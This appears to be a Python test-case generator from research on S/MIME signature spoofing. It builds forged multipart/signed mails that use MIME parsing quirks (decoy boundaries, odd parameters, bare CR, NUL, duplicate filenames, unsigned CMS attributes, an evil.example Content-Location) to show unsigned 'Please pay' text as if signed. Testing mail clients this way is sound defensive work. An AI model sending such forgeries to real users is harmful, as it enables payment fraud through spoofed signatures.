"""Forgeries beside the signed part: other boundaries, and the header of the signature part, are unsigned."""

from __future__ import annotations

from collections.abc import Iterator

from asn1crypto import cms, core
from forge import (
    ALICE,
    CLEAR_TYPE,
    EOL,
    OPAQUE_TYPE,
    SIGNATURE_HEAD,
    TEXT,
    Structure,
    clear,
    header,
    opaque,
    opaque_mail,
    person,
    signer_info,
)
from structures import PAY, Case

OTHER = b"--evil\r\n" + PAY + b"--evil--\r\n"


def boundary_cases() -> Iterator[Case]:
    """Other boundaries than the one that we read."""
    decoy = CLEAR_TYPE.replace(b"boundary=b1", b'x="; boundary=evil"; boundary=b1')
    yield (
        "boundary-in-quotes",
        "structure",
        "readers that do not know quotes find another boundary",
        clear(kind=decoy, before=OTHER),
    )
    yield (
        "boundary-in-quotes-alone",
        "structure",
        "another boundary in quotes, and nothing that it would divide",
        clear(kind=decoy),
    )
    yield (
        "foreign-boundary",
        "structure",
        "a boundary line before the signed part that is not ours",
        clear(before=OTHER),
    )
    padded = (
        b"\r\n--b1\t\r\nX-Note: Please pay to another account.\r\nContent-Type: application/pkcs7-signature"
    )
    yield (
        "padded-boundary-between",
        "structure",
        "readers that do not know a boundary line with white space show the header of the signature part",
        clear().replace(b"\r\n--b1\r\nContent-Type: application/pkcs7-signature", padded),
    )
    yield (
        "space-in-type",
        "content-type",
        "readers that take no space before the slash find no multipart and show the source",
        clear(kind=CLEAR_TYPE.replace(b"multipart/signed", b"multipart /signed"), before=b"Please pay.\r\n"),
    )
    for name, junk in (
        ("empty-parameter", b"; ; boundary=b1"),
        ("odd-parameter", b"; mi)calg=x; boundary=b1"),
        ("starred-parameter", b"; mi*calg=x; boundary=b1"),
        ("colon-parameter", b"; mi:calg=x; boundary=b1"),
    ):
        yield (
            name,
            "content-type",
            "readers that give up at such a parameter find no boundary and show the source",
            clear(kind=CLEAR_TYPE.replace(b"; boundary=b1", junk), before=b"Please pay.\r\n"),
        )
    for name, text in (
        ("part", b"Content-Type: text/plain\r\n\r\nPlease pay.\r\n"),
        ("paragraphs", b"Note: this mail is signed\r\n\r\nPlease pay.\r\n"),
        ("part-bare", b"Note: this mail is signed\r\rPlease pay.\r\n"),
        ("uuencoded", b"begin 644 pay.html\r\n#86)C\r\n`\r\nend\r\n"),
    ):
        yield (
            f"preamble-{name}",
            "structure",
            "text before the first boundary that some parsers take for a part of its own",
            clear(before=text),
        )
    for name, lines in (
        ("mime-version-2", b"MIME-Version: 2.0\r\n"),
        ("mime-version-twice", b"MIME-Version: 1.0\r\nMIME-Version: 2.0\r\n"),
        ("mime-version-longer", b"MIME-Version: 1.01\r\n"),
    ):
        yield (
            name,
            "structure",
            "readers that do not know this version show the source, preamble first",
            clear(head=header().replace(b"MIME-Version: 1.0\r\n", lines), before=b"Please pay.\r\n"),
        )


def signature_part_cases() -> Iterator[Case]:
    """What stands in the signature part, which nobody signed."""
    for name, lines, why in (
        (
            "indented-boundary",
            b"X-A: b\r\n --b1\r\n Content-Type: text/html\r\n",
            "an indented boundary line",
        ),
        ("boundary-field", b"--evil: b\r\n", "a field that is a boundary line to some"),
        ("bare-cr", b"X-A: b\rContent-Type: text/html\r\n", "a bare CR that makes a type of its own"),
        ("nul", b"X-A: b\0\r\n", "a NUL, at which some readers stop"),
        ("blank-continuation", b"X-A: b\r\n \r\n <b>Pay</b>\r\n", "a line of white space ends it for some"),
        ("location", b"Content-Location: http://evil.example/pay.html\r\n", "a place to load it from"),
        (
            "two-names",
            b"Content-Disposition: attachment; filename=pay.html; filename*=us-ascii''smime.p7s\r\n",
            "a file name for readers that do not know RFC 2231",
        ),
        (
            "same-name-twice",
            b"Content-Disposition: attachment; filename=smime.p7s; filename=pay.html\r\n",
            "two file names: some use the first, some the last",
        ),
    ):
        yield (
            f"signature-{name}",
            "structure",
            f"in the header of the signature part: {why}",
            clear().replace(SIGNATURE_HEAD, SIGNATURE_HEAD + lines),
        )
    yield (
        "signature-comment",
        "content-type",
        "a comment in which some readers see a file name",
        clear().replace(
            b"Content-Type: application/pkcs7-signature;",
            b"Content-Type: application/pkcs7-signature (; name=pay.html);",
        ),
    )
    yield (
        "opaque-two-names",
        "structure",
        "an opaque signature that some readers save as a page",
        opaque_mail(
            opaque(),
            kind=OPAQUE_TYPE
            + b"Content-Disposition: attachment; filename=pay.html; filename*=us-ascii''smime.p7m\r\n",
        ),
    )


def binary_cases() -> Iterator[Case]:
    """A signature that is not in base64 has room for text in what is not signed of it."""
    part = b"\r\n--evil\r\n" + PAY.replace(b"plain", b"html") + b"--evil--\r\n"
    hidden = cms.CMSAttribute(
        {"type": "2.25.1.2.3", "values": [core.Any(core.OctetString(part))]},
    )
    alice = person(ALICE)
    der = Structure([signer_info(alice, TEXT, unsigned=[hidden])], [alice]).der()
    for encoding in (b"8bit", b"binary"):
        head = SIGNATURE_HEAD.replace(b"base64", encoding)
        body = b"--b1\r\n" + TEXT + b"\r\n--b1\r\n" + head + EOL + der + b"\r\n--b1--\r\n"
        yield (
            f"signature-{encoding.decode()}",
            "structure",
            "a part of its own among the unsigned attributes",
            header() + CLEAR_TYPE + EOL + body,
        )


def cases() -> Iterator[Case]:
    """All forgeries of this file."""
    yield from boundary_cases()
    yield from signature_part_cases()
    yield from binary_cases()
